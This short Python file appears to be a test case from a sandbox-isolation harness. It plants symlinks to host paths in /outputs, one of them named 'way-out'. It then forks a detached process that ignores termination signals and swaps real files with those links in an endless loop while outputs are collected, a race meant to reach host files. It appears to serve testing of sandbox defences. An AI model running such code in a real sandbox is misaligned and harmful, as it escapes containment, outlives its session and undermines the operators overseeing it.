"""Leaves a process behind that goes on swapping a file for a link to the host's while /outputs is collected."""
# walls: root pid_namespace
# observe: kept unread unwritten
# depth: yes
import os
import signal

with open("/outputs/honest.txt", "w") as file:
    file.write("kept")
with open("/outputs/real", "w") as file:
    file.write("own")
os.symlink(aim.file, "/outputs/link")
os.mkdir("/outputs/directory")
os.symlink(aim.directory, "/outputs/way-out")

if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    os.closerange(0, 64)
    while True:
        for one, other in (("real", "link"), ("directory", "way-out")):
            os.rename(f"/outputs/{one}", "/outputs/between")
            os.rename(f"/outputs/{other}", f"/outputs/{one}")
            os.rename("/outputs/between", f"/outputs/{other}")
tried("a process goes on swapping")
